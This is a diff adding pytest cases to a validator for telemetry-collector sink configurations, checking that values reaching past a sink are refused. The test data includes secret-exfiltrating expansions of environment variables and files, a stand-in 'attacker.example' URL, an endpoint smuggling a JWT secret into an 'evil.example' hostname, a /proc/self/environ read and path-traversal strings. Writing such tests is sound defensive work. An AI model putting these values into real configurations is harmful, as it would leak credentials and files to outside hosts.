@@ -19,8 +19,8 @@ VALID: dict[str, Any] = {
                         "config": {"compression": "gzip"}}]}}
 
 
-def changed(path: list[str | int], value: Any) -> dict[str, Any]:
-    document = copy.deepcopy(VALID)
+def changed(path: list[str | int], value: Any, base: dict[str, Any] = VALID) -> dict[str, Any]:
+    document = copy.deepcopy(base)
     node: Any = document
     for key in path[:-1]:
         node = node[key]
@@ -52,6 +52,8 @@ def test_a_valid_destination_parses() -> None:
     (["spec", "sinks", 0, "endpoint"], "otel.example", "spec.sinks[0].endpoint: "
                                                        "'otel.example' is neither"),
     (["spec", "sinks", 0, "endpoint"], "https://otel:99999", "spec.sinks[0].endpoint:"),
+    (["spec", "sinks", 0, "endpoint"], "ftp://user:pw@otel:1", "spec.sinks[0].endpoint: "
+                                                               "'ftp://<redacted>@otel:1' is not"),
     (["spec", "sinks", 0, "secretRef"], KeyError, "spec.sinks[0].auth.bearerToken: needs "
                                                   "spec.sinks[0].secretRef"),
     (["spec", "sinks", 0, "auth", "bearerToken", "key"], "a b",
@@ -86,3 +88,102 @@ def test_sink_names_are_unique_within_a_destination() -> None:
 def test_endpoints_that_parse_are_accepted(endpoint: str) -> None:
     assert parse(changed(["spec", "sinks", 0, "endpoint"], endpoint)).sinks[0].endpoint == \
         endpoint
+
+
+TWO_SINKS: dict[str, Any] = {**VALID, "spec": {
+    "sinks": [{**VALID["spec"]["sinks"][0], "config": {"tls": {"ca_file": "ca.pem"}}},
+              {"name": "lake", "exporter": "file",
+               "config": {"path": "metrics.jsonl", "headers": {"authorization": "pa$$word"}}}],
+    "extensions": {"oauth2client/gw": {"client_secret_file": "client-secret"},
+                   "oauth2client/corp": {"client_id": "tuneplane"}}}}
+
+
+SINK1 = ["spec", "sinks", 1, "config"]
+EXT = ["spec", "extensions"]
+EXPANDED = "would be expanded by the collector"
+
+
+@pytest.mark.parametrize(("path", "value", "words"), [
+    # The collector's confmap expansions, wherever they are.
+    ([*SINK1, "headers", "authorization"], "Bearer ${env:TUNEPLANE_WEB_JWT_SECRET}",
+     f"spec.sinks[1].config.headers.authorization: '${{env:TUNEPLANE_WEB_JWT_SECRET}}' "
+     f"{EXPANDED}"),
+    ([*SINK1, "headers", "authorization"], "${TUNEPLANE_DATABASE_URL}",
+     f"spec.sinks[1].config.headers.authorization: '${{TUNEPLANE_DATABASE_URL}}' {EXPANDED}"),
+    ([*SINK1, "headers", "x"], "${env:AWS_SECRET_ACCESS_KEY:-none}",
+     f"spec.sinks[1].config.headers.x: '${{env:AWS_SECRET_ACCESS_KEY:-...}}' {EXPANDED}"),
+    ([*SINK1, "headers", "x"], "${file:/etc/tuneplane/telemetry/gw/token}",
+     f"spec.sinks[1].config.headers.x: '${{file:/etc/tuneplane/telemetry/gw/token}}' "
+     f"{EXPANDED}"),
+    ([*SINK1, "headers", "x"], "${https://attacker.example/steal}",
+     f"spec.sinks[1].config.headers.x: '${{https://attacker.example/steal}}' {EXPANDED}"),
+    ([*SINK1, "headers", "x"], "$$${env:HOME}",  # an odd run of $: the last one expands
+     f"spec.sinks[1].config.headers.x: '${{env:HOME}}' {EXPANDED}"),
+    ([*SINK1, "headers", "x"], "$TUNEPLANE_WEB_JWT_SECRET",
+     "spec.sinks[1].config.headers.x: a single '$' is refused"),
+    ([*SINK1, "rotation"], [1, {"a": ["${env:X}"]}],
+     f"spec.sinks[1].config.rotation[1].a[0]: '${{env:X}}' {EXPANDED}"),
+    ([*SINK1, "headers"], {"${env:X}": "v"},
+     f"spec.sinks[1].config.headers.${{env:X}}: '${{env:X}}' {EXPANDED}"),
+    (["spec", "sinks", 0, "endpoint"], "https://${env:TUNEPLANE_WEB_JWT_SECRET}.evil.example",
+     f"spec.sinks[0].endpoint: '${{env:TUNEPLANE_WEB_JWT_SECRET}}' {EXPANDED}"),
+    ([*EXT, "oauth2client/corp"], {"client_secret": "${env:TUNEPLANE_SECRET_ENC_KEY}"},
+     f"spec.extensions.oauth2client/corp.client_secret: '${{env:TUNEPLANE_SECRET_ENC_KEY}}' "
+     f"{EXPANDED}"),
+    ([*EXT, "health_check/${env:X}"], {},
+     f"spec.extensions.health_check/${{env:X}}: '${{env:X}}' {EXPANDED}"),
+    # Files: only in the sink's own directory, given relative to it.
+    ([*EXT, "bearertokenauth/corp"], {"filename": "/proc/self/environ"},
+     "spec.extensions.bearertokenauth/corp.filename: an extension the sinks share reads no "
+     "file"),
+    ([*EXT, "oauth2client/gw"], {"client_secret_file": "/etc/tuneplane/web/jwt"},
+     "spec.extensions.oauth2client/gw.client_secret_file: '/etc/tuneplane/web/jwt' is not a "
+     "path relative to the sink's directory"),
+    ([*EXT, "oauth2client/gw"], {"client_secret_file": "../lake/secret"},
+     "spec.extensions.oauth2client/gw.client_secret_file: '../lake/secret' leaves the sink's "
+     "directory"),
+    (["spec", "sinks", 0, "config", "tls"], {"ca_file": "/etc/ssl/ca.pem"},
+     "spec.sinks[0].config.tls.ca_file: '/etc/ssl/ca.pem' is not a path relative"),
+    (["spec", "sinks", 0, "config", "tls"], {"key_file": "keys/../../lake/key.pem"},
+     "spec.sinks[0].config.tls.key_file: 'keys/../../lake/key.pem' leaves the sink's"),
+    (["spec", "sinks", 0, "config", "tls"], {"cert_file": "~/cert.pem"},
+     "spec.sinks[0].config.tls.cert_file: '~/cert.pem' is not a path relative"),
+    ([*SINK1, "path"], "/var/lib/tuneplane/otelcol.json",
+     "spec.sinks[1].config.path: '/var/lib/tuneplane/otelcol.json' is not a path relative"),
+    ([*SINK1, "path"], "..", "spec.sinks[1].config.path: '..' leaves the sink's directory"),
+    ([*SINK1, "token_source"], "/etc/tuneplane/telemetry/gw/token",
+     "spec.sinks[1].config.token_source: names the secrets root (/etc/tuneplane/telemetry)"),
+    (["spec", "sinks", 0, "auth", "bearerToken", "key"], "..",
+     "spec.sinks[0].auth.bearerToken.key: '..' is not a file in the sink's directory"),
+    # Another sink's authenticator or extension.
+    ([*SINK1, "auth"], {"authenticator": "bearertokenauth/gw"},
+     "spec.sinks[1].config.auth.authenticator: 'bearertokenauth/gw' belongs to sink 'gw'; "
+     "sink 'lake' names only its own extensions and those the destination's sinks share"),
+    ([*SINK1, "sending_queue"], {"storage": "oauth2client/gw"},
+     "spec.sinks[1].config.sending_queue.storage: 'oauth2client/gw' belongs to sink 'gw'"),
+    ([*EXT, "oauth2client/corp"], {"auth": {"authenticator": "bearertokenauth/gw"}},
+     "spec.extensions.oauth2client/corp.auth.authenticator: 'bearertokenauth/gw' belongs to "
+     "sink 'gw'; an extension the sinks share names only"),
+    # The stand-in answers show for a secret, applied back.
+    ([*SINK1, "headers", "authorization"], "<redacted>",
+     "spec.sinks[1].config.headers.authorization: '<redacted>' stands for a secret in "
+     "answers"),
+])
+def test_what_would_reach_past_its_sink_is_refused_by_path(
+        path: list[str | int], value: Any, words: str) -> None:
+    with pytest.raises(DestinationError) as caught:
+        parse(changed(path, value, TWO_SINKS), "prod.yaml")
+    assert str(caught.value).startswith("prod.yaml: ")
+    assert words in str(caught.value), str(caught.value)
+
+
+@pytest.mark.parametrize(("path", "value"), [
+    ([*SINK1, "headers", "authorization"], "pa$$word $${env:X} 5$$"),  # $$: a literal $
+    ([*SINK1, "path"], "./out/../metrics.jsonl"),
+    ([*SINK1, "auth"], {"authenticator": "oauth2client/corp"}),  # shared by the sinks
+    (["spec", "sinks", 0, "config", "sending_queue"], {"storage": "oauth2client/gw"}),  # own
+    ([*EXT, "file_storage/lake"], {"directory": "."}),
+    ([*EXT, "health_check"], {"path": "/healthz"}),  # an HTTP path: not a file field
+])
+def test_what_stays_within_its_sink_is_accepted(path: list[str | int], value: Any) -> None:
+    parse(changed(path, value, TWO_SINKS))
